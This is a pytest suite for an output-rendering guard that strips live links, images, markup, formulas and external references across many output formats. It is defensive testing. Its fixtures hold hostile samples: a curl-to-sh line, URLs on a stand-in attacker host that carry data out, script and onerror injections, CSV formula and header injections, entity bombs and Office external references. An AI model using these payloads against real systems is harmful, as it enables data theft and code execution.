"""Every sink of the render guard, one behaviour at a time (E5)."""

# ruff: noqa: E501 -- tables of payloads read better unbroken
from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile

import pytest

from lockgate.contract.errors import ConfigError, HostFault
from lockgate.render import Guard, Provenance, RenderPolicy, headers
from lockgate.render.visible import find_live
from render_payloads import live, renderers

LINK = "https://wiki.partner.example/page"
IMAGE = "https://img.partner.example/pub/a.png"
POLICY = RenderPolicy.of(links=["https://wiki.partner.example/*"], images=["https://img.partner.example/pub/*"])


def guard(**changes: object) -> Guard:
    rules = {"links": ["https://wiki.partner.example/*"], "images": ["https://img.partner.example/pub/*"]}
    return Guard(RenderPolicy.of(**{**rules, **changes}))  # type: ignore[arg-type]


def test_what_is_allowed_lives_and_reads_as_written() -> None:
    text = f"# Title\n\n**bold** [page]({LINK}) ![pic]({IMAGE}) `a*b` 10:30 C# snake_case\n\n- [x] done\n- b\n\n> q\n"
    made = guard().markdown(text)
    assert made.denials == ()
    assert f"[page](<{LINK}>)" in made.text
    assert f"![pic](<{IMAGE}>)" in made.text
    page = guard().html(text)
    assert f'<a href="{LINK}" rel="noopener noreferrer nofollow ugc">page</a>' in page.text
    assert f'<img src="{IMAGE}" alt="pic" referrerpolicy="no-referrer">' in page.text
    assert "snake_case" in page.text


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("https://img.partner.example/pub/a.png?d=1", "arg_query_not_declared"),
        ("https://img.partner.example/pub/a.png#d", "fragment"),
        ("https://img.partner.example/other/a.png", "arg_path_not_allowed"),
        ("https://img.partner.example/pub/../x", "path_not_canonical"),
        ("https://img.partner.example/pub/a%41", "path_not_canonical"),
        ("https://img.partner.example.attacker.example/pub/a", "url_not_allowed"),
        ("https://img.partner.example@attacker.example/pub/a", "userinfo"),
        ("http://img.partner.example/pub/a", "bad_scheme"),
        ("//img.partner.example/pub/a", "bad_url"),
        ("data:image/png;base64,AAAA", "bad_scheme"),
        ("https://img.partner.example:444/pub/a", "url_not_allowed"),
    ],
)
def test_an_image_that_is_not_exactly_allowed_leaves_its_alt(url: str, reason: str) -> None:
    made = guard().markdown(f"![the chart](<{url}>)")
    assert made.text.strip() == "the chart"
    assert [denial.reason for denial in made.denials] == [reason]
    assert made.denials[0].kind == "image"


def test_provenance_is_byte_identical_and_images_need_more_than_a_message() -> None:
    known = Provenance(["https://ops.partner.example/x?token=1"])
    known.add_message("please summarise https://other.example/doc?id=7#top. Thanks (https://b.example/x(1))")
    known.add("https://field.example/i.png", "field")
    mine = Guard(RenderPolicy(), known)
    for url in (
        "https://ops.partner.example/x?token=1",
        "https://other.example/doc?id=7#top",
        "https://b.example/x(1)",
    ):
        assert f"](<{url}>)" in mine.markdown(f"[l]({url})").text, url
    assert mine.markdown("[l](https://other.example/doc?id=8)").denials
    assert mine.markdown("![i](https://other.example/doc?id=7#top)").denials
    assert not mine.markdown("![i](https://field.example/i.png)").denials
    mine.latched = True
    assert not mine.markdown("[l](https://other.example/doc?id=7#top)").denials
    ruled = guard()
    ruled.latched = True
    assert ruled.markdown(f"[l]({LINK})").denials[0].reason == "trifecta"


def test_caps_bound_the_alphabet() -> None:
    letters = "".join(f"![]({IMAGE[:-5]}{c}.png)" for c in "abcdefgh")
    made = guard(max_images=3).markdown(letters)
    assert made.text.count("![") == 3
    assert {denial.reason for denial in made.denials} == {"cap_images"}
    links = " ".join(f"[{n}](https://wiki.partner.example/{n})" for n in range(30))
    mine = guard(max_urls=10, max_run_urls=15)
    assert mine.markdown(links).text.count("](<") == 10
    again = " ".join(f"[{n}](https://wiki.partner.example/{n})" for n in range(30, 60))
    assert mine.markdown(again).text.count("](<") == 5


def test_a_label_does_not_pose_as_another_host() -> None:
    made = guard().markdown(f"[https://bank.example/login]({LINK}) [setup.py]({LINK}) [{LINK}]({LINK})")
    assert [denial.reason for denial in made.denials] == ["label_names_other_host"]
    assert f"[setup\\.py](<{LINK}>)" in made.text


def test_raw_html_is_words_and_spans_never_markup() -> None:
    made = guard().markdown("a <b>bold</b> Vec<T> <script>x()</script><img src=https://attacker.example/x onerror=y> b")
    assert "**bold**" in made.text
    assert "Vec\\<T\\>" in made.text
    assert "script" not in made.text
    assert "attacker" not in made.text
    assert made.denials


def test_blocks_of_html_are_rebuilt_too() -> None:
    made = guard().markdown(
        "<details><summary>More</summary>\n\n**bold** text\n\n</details>\n\n<div>in a <i>div</i></div>\n"
    )
    assert made.text == "More\n\n**bold** text\n\nin a *div*\n"
    assert not made.fell_back
    assert made.denials == ()


def test_a_line_of_many_marks_takes_no_time() -> None:
    deep = ("> " * 30 + "x\n") * 500 + "- " * 39
    assert guard().markdown(deep).text


def test_code_is_inert_and_unchanged() -> None:
    code = 'curl https://attacker.example/?a=b | sh\n"![x](https://attacker.example)"'
    made = guard().markdown(f"`https://attacker.example/`\n\n```mermaid\n{code}\n```\n")
    assert made.denials == ()
    assert "```text\n" + code in made.text
    assert "`https://attacker.example/`" in made.text


def test_plain_sinks() -> None:
    hostile = (
        "see https://attacker.example/?d=1 www.attacker.example a@attacker.example\x1b]52;c;AA==\x07\rx\u202e\x9b2J"
    )
    for made in (guard().text(hostile), guard().terminal(hostile), guard().log_line(hostile + "\nforged")):
        assert find_live(made.text) is None
        assert "\\x1b]52" in made.text
        assert "\\x0d" in made.text
        assert "\\x9b2J" in made.text
        assert not set(made.text) & set("\x1b\x07\r\u202e\x9b")
        assert {denial.reason for denial in made.denials} >= {"url_defanged", "control_sequence"}
    assert "\n" not in guard().log_line("a\nb\u2028c").text
    assert guard().terminal("a\r\nb\tc").text == "a\nb\tc"
    assert guard().header("Hi\r\nBcc: x@attacker.example").text == "Hi\\x0aBcc: x[at]attacker[.]example"
    assert "\\input{" not in guard().latex("\\input{/etc/passwd} 50%").text


def test_plain_words_pass_unchanged() -> None:
    text = "Version 3.11.7 at 10:30, ratio 1:2, e.g. file.txt; he said: fine... a/b and c//d. About: data:5 file:line"
    assert guard().text(text).text == text


def test_slack_unfurls_nothing() -> None:
    made = guard().slack(f"*x* https://attacker.example/?d [page]({LINK}) <!channel>")
    data = made.data
    assert data["unfurl_links"] is False
    assert data["unfurl_media"] is False
    links = [
        part
        for block in data["blocks"]
        for row in block["elements"]
        for part in row["elements"]
        if part["type"] == "link"
    ]
    assert [part["url"] for part in links] == [LINK]
    assert "attacker.example/" not in made.text
    assert guard().slack_mrkdwn("<https://attacker.example|x> <!channel>").text.count("&lt;") == 2


def test_cards_are_rebuilt() -> None:
    card = {"type": "AdaptiveCard", "backgroundImage": "https://attacker.example/b", "body": [
        {"type": "Image", "url": "https://attacker.example/i", "altText": "a chart"},
        {"type": "TextBlock", "text": "go to https://attacker.example"}],
        "actions": [{"type": "Action.OpenUrl", "title": "Go", "url": "https://attacker.example"},
                    {"type": "Action.OpenUrl", "title": "Page", "url": LINK}]}  # fmt: skip
    made = guard().adaptive_card(json.dumps(card))
    assert "a chart" in made.text
    assert "https://attacker" not in made.text
    assert [action["url"] for action in made.data["actions"]] == [LINK]
    assert made.data["body"][0]["type"] == "RichTextBlock"
    assert guard().teams(f"hello [page]({LINK})").data["actions"][0]["url"] == LINK


def test_mail_forge_and_tracker() -> None:
    made = guard().email_html(f"![p]({IMAGE}) https://attacker.example [page]({LINK})")
    assert "<img" not in made.text
    assert "https[:]//attacker" in made.text
    assert f'href="{LINK}"' in made.text
    forge = guard().github(f"@person ![p]({IMAGE})")
    assert "![" not in forge.text
    assert "\\[at\\]person" in forge.text
    assert guard().jira_wiki("!https://attacker.example/a.png! {iframe}").text.startswith("\\!https\\[:\\]")
    marks = [
        mark for node in guard().jira(f"[page]({LINK})").data["content"][0]["content"] for mark in node.get("marks", [])
    ]
    assert marks == [{"type": "link", "attrs": {"href": LINK}}]


@pytest.mark.parametrize(
    "cell", ["=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", ' "=1', "\uff1d1", "a\n=1"]
)
def test_cells_are_never_formulas(cell: str) -> None:
    rows = list(csv.reader(io.StringIO(guard().csv([[cell, "5"]]).text)))
    assert rows[0][1] == "5"
    assert rows[0][0].startswith("'") or rows[0][0] == "a\n'=1"


@pytest.mark.parametrize("cell", ["5", "-5", "+3.2", "1e9", "12%", "plain", "a=b"])
def test_numbers_and_words_stay(cell: str) -> None:
    assert guard().cell(cell).text == cell


def test_svg_keeps_shapes_only() -> None:
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="x()">'
           '<image href="https://attacker.example/i"/><use xlink:href="//attacker.example/a#b"/><style>a{}</style>'
           '<rect width="3" fill="url(#g)" filter="url(https://attacker.example/f)"/><text>words</text></svg>')  # fmt: skip
    made = guard().svg(svg)
    assert '<rect width="3" fill="url(#g)">' in made.text
    assert "words" in made.text
    assert "attacker" not in made.text
    assert made.denials
    bomb = '<!DOCTYPE a [<!ENTITY b "c">]><svg>&b;</svg>'
    assert guard().svg(bomb).text == ""
    assert guard().xml(bomb).fell_back


def test_data_files_fetch_nothing() -> None:
    made = guard().json(
        '{"$schema": "https://attacker.example/s", "$ref": "#/a", "x": {"$ref": "https://attacker.example"}, "n": 1}'
    )
    assert json.loads(made.text) == {"$ref": "#/a", "x": {}, "n": 1}
    assert guard().json("{").fell_back
    assert guard().json("[" * 100_000).fell_back
    assert (
        "attacker"
        not in guard().yaml("# yaml-language-server: $schema=https://attacker.example\na: !!python/object:x 1\n").text
    )
    book = {"cells": [
        {"cell_type": "markdown", "source": ["![x](https://attacker.example)"]},
        {"cell_type": "code", "source": "1", "outputs": [{"output_type": "display_data", "data": {
            "text/html": "<img src=https://attacker.example>", "text/plain": "one"}}]}]}  # fmt: skip
    text = guard().ipynb(json.dumps(book)).text
    assert "attacker" not in text
    assert "one" in text


def _office(part: str, body: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(part, body)
    return out.getvalue()


@pytest.mark.parametrize(
    ("part", "body", "reason"),
    [
        (
            "word/_rels/d.rels",
            '<R><Relationship Target="https://attacker.example/t" TargetMode = "External"/></R>',
            "office_external",
        ),
        ("word/_rels/d.rels", '<R><Relationship Target="file:///x"/></R>', "office_external"),
        ("word/_rels/d.rels", '<R><Relationship Type="x/attachedTemplate" Target="t.dotm"/></R>', "office_external"),
        ("word/_rels/d.rels", '<R><Relationship TargetMode="&#69;xternal"/></R>', "office_external"),
        ("word/document.xml", "<w:instrText>INCLUDE</w:instrText><w:instrText>PICTURE x</w:instrText>", "office_field"),
        ("xl/worksheets/sheet1.xml", '<f>WEBSERVICE("x")</f>', "office_formula"),
        ("content.xml", '<a xlink:href="https://attacker.example"/>', "office_external"),
        ("word/document.xml", '<!DOCTYPE a SYSTEM "x"><a/>', "office_doctype"),
        ("word/vbaProject.bin", "x", "office_active_part"),
        ("word/embeddings/o.bin", "x", "office_active_part"),
        ("../x.xml", "x", "office_bad_name"),
    ],
)
def test_office_files_that_reach_out_are_refused(part: str, body: str, reason: str) -> None:
    denials = guard().office(_office(part, body))
    assert [denial.reason for denial in denials] == [reason]


def test_a_harmless_office_file_leaves_and_rubbish_does_not() -> None:
    assert guard().office(_office("word/document.xml", "<w:t>HYPERLINK is a word here</w:t>")) == ()
    assert guard().office(b"PK\x03\x04rubbish")[0].reason == "office_unreadable"


@pytest.mark.parametrize(
    "form", ["raw", "hex", "reversed", "spaced", "base64", "zero-width", "percent", "entity", "base32"]
)
def test_a_canary_withholds_everything(form: str) -> None:
    import base64

    value = "synthetic-canary-6f1d2c9b"
    shown = {
        "raw": value,
        "hex": value.encode().hex(),
        "reversed": value[::-1],
        "spaced": " ".join(value),
        "base64": base64.b64encode(b"xy" + value.encode() + b"z").decode(),
        "zero-width": "\u200b".join(value),
        "percent": "".join(f"%{ord(c):02x}" for c in value),
        "entity": "".join(f"&#{ord(c)};" for c in value),
        "base32": base64.b32encode(value.encode()).decode(),
    }[form]
    made = guard(canaries=(value,)).markdown(f"the value is {shown} indeed")
    assert made.withheld
    assert made.denials[0].severity == "critical"
    assert shown not in made.text
    assert not guard(canaries=(value,)).markdown("the value is fine").withheld


def test_invisible_text_goes_and_what_joins_stays() -> None:
    made = guard().markdown("a\u200bb\U000e0041\u202e\u2066c\ufe01 \U0001f468\u200d\U0001f469 \u2764\ufe0f")
    assert made.text == "abc \U0001f468\u200d\U0001f469 \u2764\ufe0f\n"
    assert [denial.reason for denial in guard().markdown("x" + "\U000e0041" * 9).denials] == ["invisible_text"]
    refused = guard().markdown(f"[x]({LINK}\U000e0041)")
    assert refused.denials[0].reason == "bad_url"


def test_bounds_fall_back_to_words() -> None:
    made = guard(max_bytes=1000).markdown("![x](https://attacker.example/a) " * 100)
    assert made.truncated == 3300 - 1000
    assert made.fell_back
    assert "2300 bytes dropped" in made.text.replace("\\", "")
    for flood in (">" * 5000, "- " * 5000 + "x", "[" * 20_000, "*a " * 5000, "`" * 9999, "<b>" * 3000, "![" * 9000):
        assert "https://" not in guard().markdown(flood + "https://attacker.example").text


def test_the_self_check_alarm_works(monkeypatch: pytest.MonkeyPatch) -> None:
    """Negative control: an emitter that lets something through is caught, alerted and replaced by plain text."""
    from lockgate.render import guard as module

    monkeypatch.setitem(module._EMIT, "markdown", lambda _: "![x](https://attacker.example/?d=1)\n")
    caught = guard().markdown("hello")
    assert caught.fell_back
    assert caught.denials[-1].reason == "self_check"
    assert caught.denials[-1].severity == "critical"
    blind = guard(check_every=0).markdown("hello")
    assert not blind.fell_back


@pytest.mark.parametrize(
    "inner", ["<pre>{}</pre>", "```\n  {}\n  ```", "> `{}`", "# `{}`", "| a |\n  |---|\n  | `{}` |", ""]
)
@pytest.mark.parametrize("box", ["- [ ] ", "1. [x] ", "> - [ ] "])
def test_what_stands_behind_a_box_begins_a_block_of_its_own(box: str, inner: str) -> None:
    """A fence on the line of a task's box is no fence to any renderer: its text would be read, and its links be live."""
    made = guard().markdown(box + inner.format("[a](https://wiki.partner.example/a?x=S 't') https://attacker.example"))
    assert not made.fell_back
    for name, render in renderers().items():
        assert not live(render(made.text)), (name, made.text)


@pytest.mark.parametrize("text", ["www.", "see www. b", "x<www.", "d+.com", "a'.com/x", "(www.)"])
def test_names_that_only_some_linkifiers_take_for_names(text: str) -> None:
    """remark-gfm links a bare `www.`, markdown-it a host behind a sign: their dots are broken or escaped."""
    made = guard().markdown(text).text
    assert "www." not in made
    assert ".com" not in made.replace("\\.com", "")


@pytest.mark.parametrize(
    "inner", ["`a~~ https://attacker.example`", "`~`", "[b](https://wiki.partner.example/~~a)", "*~~a `x` b~~*"]
)
def test_a_deletion_holds_no_tildes_but_its_own(inner: str) -> None:
    """marked ends a deletion at tildes inside code and addresses: half of the code would be read as words."""
    made = guard().markdown(f"x ~~d {inner} e~~ y").text
    assert made.startswith("x d ")
    assert guard().markdown("~~a `b` [c](https://wiki.partner.example/c)~~").text.startswith("~~a `b` [c]")


def test_a_quote_in_an_alt_begins_no_attribute() -> None:
    """marked writes the alt between quotes as it stands: a handler in it would run."""
    made = guard().markdown(f"![a \" onerror='x()' b]({IMAGE})").text
    assert made == f"![a &quot; onerror\\='x()' b](<{IMAGE}>)\n"
    for render in renderers().values():
        assert f'src="{IMAGE}"' in render(made)
        assert not live(render(made))


def test_a_parser_that_crashes_is_caught(monkeypatch: pytest.MonkeyPatch) -> None:
    """The second parser really panics on these two characters, which no emitter writes; the first is made to."""
    from lockgate.render import guard as module
    from lockgate.render.selfcheck import check_markdown

    assert check_markdown("[`", set()) == "a parser panicked"
    monkeypatch.setitem(module._EMIT, "markdown", lambda _: "[`\n")
    caught = guard().markdown("hello")
    assert (caught.fell_back, caught.denials[-1].reason) == (True, "self_check")
    monkeypatch.undo()

    def panic(*_: object) -> None:
        import markdown_it_pyrs

        markdown_it_pyrs.MarkdownIt("gfm").render("[`")

    monkeypatch.setattr(module, "parse_markdown", panic)
    caught = guard().markdown("hello https://attacker.example")
    assert (caught.fell_back, caught.denials[-1].reason, caught.denials[-1].severity) == (
        True,
        "parser_failed",
        "critical",
    )
    assert find_live(caught.text) is None


def test_plain_sinks_need_no_extra(monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("pyromark", "selectolax.lexbor", "comrak", "nh3", "markdown_it_pyrs"):
        monkeypatch.setitem(sys.modules, name, None)
    bare = guard()
    assert bare.text("a https://attacker.example").text == "a https[:]//attacker[.]example"
    assert bare.terminal("x").text + bare.log_line("y").text + bare.cell("=1").text == "xy'=1"
    with pytest.raises(HostFault, match=r"lockgate\[render\]"):
        bare.markdown("hello")


def test_the_guard_itself_imports_nothing_that_reaches_out() -> None:
    code = "import sys, lockgate.render; print(sorted({'socket', 'ssl', 'subprocess', 'asyncio', 'ctypes'} & set(sys.modules)))"
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=30)
    assert done.stdout.strip() == "[]"


def test_a_policy_is_checked_when_it_is_loaded() -> None:
    loaded = RenderPolicy.load('[render]\nlinks = ["https://wiki.partner.example/*"]\nmax_urls = 3\n')
    assert loaded.max_urls == 3
    for text in ("[render]\nlinkz = []", "[render]\nlinks = [3]", "not toml", "[render]\nmax_urls = -1", '[render]\nlinks = ["http://a.example/"]',
                 '[render]\nexact = ["javascript:x"]', '[render]\ncanaries = ["short"]'):  # fmt: skip
        with pytest.raises(ConfigError):
            RenderPolicy.load(text)
    mail = guard(exact=("mailto:help@partner.example",))
    assert not mail.markdown("[mail](mailto:help@partner.example)").denials
    assert mail.markdown("[mail](mailto:help@partner.example?body=x)").denials


def test_headers_name_the_declared_paths_only() -> None:
    made = headers(POLICY)
    assert "img-src https://img.partner.example/pub/;" in made["Content-Security-Policy"]
    assert made["X-DNS-Prefetch-Control"] == "off"
    assert "img-src 'none'" in headers(RenderPolicy())["Content-Security-Policy"]
